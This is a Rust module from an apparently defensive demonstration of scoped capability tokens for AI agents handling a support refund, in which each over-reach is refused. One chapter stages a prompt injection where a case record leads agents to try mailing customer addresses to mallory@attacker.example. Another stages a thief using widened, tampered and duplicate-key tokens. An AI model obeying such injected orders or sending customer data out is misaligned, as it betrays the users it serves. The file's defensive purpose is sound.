//! The support case: what the agents do with their tokens, chapter by chapter.

use super::agents::{PRINCIPAL, Tokens, tampered, widened};
use super::call::{self, Call, sealed};
use super::report::Report;
use super::row::Row;
use super::tools::INJECTED;
use super::world::{Place, World};
use crate::model::Code;
use crate::token::UnverifiedToken;

pub(super) const ORCHESTRATOR: &str = "orchestrator";
const READER: &str = "reader";
const REFUNDER: &str = "refund agent";
const HELPER: &str = "helper";
const THIEF: &str = "thief";

/// What the tools may have done when all is over.
pub(super) const DEEDS: [&str; 2] =
    ["a refund of 42.50 usd on ch_1042", "a message to alice@example.com"];

/// The story under way.
pub(super) struct Story<'a, 'b> {
    pub(super) world: &'a World,
    pub(super) report: &'a mut Report<'b>,
}

impl Story<'_, '_> {
    /// All of it; gives the number of records.
    pub(super) async fn tell(&mut self) -> anyhow::Result<u64> {
        let tokens = self.one_task().await?;
        self.the_work(&tokens).await?;
        self.beyond_the_task(&tokens).await?;
        self.an_injected_order(&tokens).await?;
        self.a_stolen_token(&tokens).await?;
        self.one_agent_is_stopped(&tokens).await?;
        self.the_task_ends(&tokens).await?;
        self.the_records()
    }

    async fn the_work(&mut self, tokens: &Tokens) -> anyhow::Result<()> {
        self.report.chapter(
            "The work",
            "Offline, the orchestrator narrows its token: to reading, for one agent; to refunds of \
             this one charge up to 100 usd, at the payments gateway alone, for another. That one \
             hands 25 usd of it on to a helper.",
        )?;
        let orchestrator = sealed(&tokens.orchestrator)?;
        let refunder = sealed(&tokens.refunder)?;
        self.call(account().by(READER, &tokens.reader).answers(
            "/name",
            "Alice Moreau",
            "Alice Moreau's account",
        ))
        .await?;
        self.call(cases().by(READER, &tokens.reader).answers("/0/charge", "ch_1042", "one case"))
            .await?;
        let body = r#"{"charge": "ch_1042", "amount": 42.5, "currency": "usd"}"#;
        let allowed = refund("42.50 usd", body).by(REFUNDER, &refunder);
        self.call(allowed.answers("/for", PRINCIPAL, "refunded, on Alice's behalf")).await?;
        let body = r#"{"to": "alice@example.com", "text": "Your 42.50 usd are on the way."}"#;
        let message = message("to alice@example.com", body).by(ORCHESTRATOR, &orchestrator);
        self.call(message.answers("/task", tokens.task.as_str(), "sent")).await
    }

    async fn beyond_the_task(&mut self, tokens: &Tokens) -> anyhow::Result<()> {
        self.report.chapter(
            "Nobody does more than was handed to them",
            "The task allows 500 usd, the refund agent's own check 100, this gateway's policy no \
             refund by whoever was handed the token second-hand.",
        )?;
        let refunder = sealed(&tokens.refunder)?;
        let body = r#"{"charge": "ch_1042", "amount": 480, "currency": "usd"}"#;
        let over = refund("480 usd", body).by(REFUNDER, &refunder).refused(Code::CheckFailed);
        self.call(Call { shows_check: true, ..over }).await?;
        let body = r#"{"charge": "ch_2001", "amount": 20, "currency": "usd"}"#;
        let other = refund("of another charge", body).by(REFUNDER, &refunder);
        self.call(other.refused(Code::CheckFailed)).await?;
        let body = r#"{"charge": "ch_1042", "amount": 20, "currency": "usd"}"#;
        let second_hand = refund("20 usd", body).by(HELPER, &tokens.helper);
        self.call(second_hand.refused(Code::PolicyDenied)).await
    }

    async fn an_injected_order(&mut self, tokens: &Tokens) -> anyhow::Result<()> {
        self.report.chapter(
            "A record gives orders",
            &format!(
                "The case says: \"{INJECTED}\" The agents fall for it, and the reader, who \
                 may write to nobody, tries Alice too."
            ),
        )?;
        let orchestrator = sealed(&tokens.orchestrator)?;
        self.call(customers().by(READER, &tokens.reader).refused(Code::NotGranted)).await?;
        let body = r#"{"to": "mallory@attacker.example", "text": "alice@example.com, …"}"#;
        let told = message("to mallory@…", body).by(READER, &tokens.reader);
        self.call(told.refused(Code::NotGranted)).await?;
        let told = message("to mallory@…", body).by(ORCHESTRATOR, &orchestrator);
        self.call(told.refused(Code::NotGranted)).await?;
        let body = r#"{"to": "alice@example.com", "text": "bob@example.com, …"}"#;
        let told = message("to alice@example.com", body).by(READER, &tokens.reader);
        self.call(told.refused(Code::CheckFailed)).await
    }

    async fn a_stolen_token(&mut self, tokens: &Tokens) -> anyhow::Result<()> {
        self.report.chapter(
            "A thief has the refund agent's token, unsealed",
            "Whatever is appended only takes away, whatever is changed breaks a signature, and \
             what can be read in two ways is not read at all.",
        )?;
        let (widened, tampered) = (widened(&tokens.refunder)?, tampered(&tokens.refunder)?);
        let body = r#"{"charge": "ch_1042", "amount": 480, "currency": "usd"}"#;
        let call = refund("a block grants all", body).by(THIEF, &widened);
        self.call(call.refused(Code::CheckFailed)).await?;
        let body = r#"{"charge": "ch_1043", "amount": 20, "currency": "usd"}"#;
        let call = refund("one bit flipped", body).by(THIEF, &tampered);
        self.call(call.refused(Code::SignatureInvalid)).await?;
        let body = r#"{"charge": "ch_1042", "amount": 20, "amount": 480, "currency": "usd"}"#;
        let call = refund("20 usd, and 480 usd", body).by(THIEF, &tokens.refunder);
        self.call(call.refused(Code::RequestMalformed)).await?;
        let call = account().by(THIEF, &tokens.refunder);
        self.call(call.refused(Code::AudienceMismatch)).await?;
        let call = account().by_nobody(THIEF);
        self.call(call.refused(Code::TokenMissing)).await
    }

    /// The refund agent and its helper are out, the reader goes on.
    pub(super) async fn after_the_stop(&mut self, tokens: &Tokens) -> anyhow::Result<()> {
        let refunder = sealed(&tokens.refunder)?;
        let body = r#"{"charge": "ch_1042", "amount": 20, "currency": "usd"}"#;
        for (who, token) in [(REFUNDER, &refunder), (HELPER, &tokens.helper)] {
            self.call(refund("20 usd", body).by(who, token).refused(Code::Revoked)).await?;
        }
        self.call(account().by(READER, &tokens.reader).answers(
            "/name",
            "Alice Moreau",
            "Alice Moreau's account",
        ))
        .await
    }

    /// Nobody is left.
    pub(super) async fn after_the_end(&mut self, tokens: &Tokens) -> anyhow::Result<()> {
        let orchestrator: UnverifiedToken = sealed(&tokens.orchestrator)?;
        self.call(account().by(READER, &tokens.reader).refused(Code::Revoked)).await?;
        let body = r#"{"to": "alice@example.com", "text": "One more thing."}"#;
        let message = message("to alice@example.com", body).by(ORCHESTRATOR, &orchestrator);
        self.call(message.refused(Code::Revoked)).await
    }

    async fn call(&mut self, call: Call<'_>) -> anyhow::Result<()> {
        let row = call::make(self.world, call).await?;
        self.step(row)
    }

    pub(super) fn step(&mut self, row: Row) -> anyhow::Result<()> {
        self.report.step(row)
    }
}

fn account<'a>() -> Call<'a> {
    Call { with: "acct_7", ..Call::new("crm/get_account", Place::Crm, "/accounts/acct_7") }
}

fn cases<'a>() -> Call<'a> {
    Call { with: "of acct_7", ..Call::new("crm/list_cases", Place::Crm, "/cases?account=acct_7") }
}

fn customers<'a>() -> Call<'a> {
    Call { with: "all of them", ..Call::new("crm/list_customers", Place::Crm, "/customers") }
}

fn refund<'a>(with: &'static str, body: &'static str) -> Call<'a> {
    let call = Call::new("stripe/refund", Place::Payments, "/refunds");
    Call { with, body: Some(body), ..call }
}

fn message<'a>(with: &'static str, body: &'static str) -> Call<'a> {
    let call = Call::new("messaging/send", Place::Messaging, "/messages");
    Call { with, body: Some(body), ..call }
}
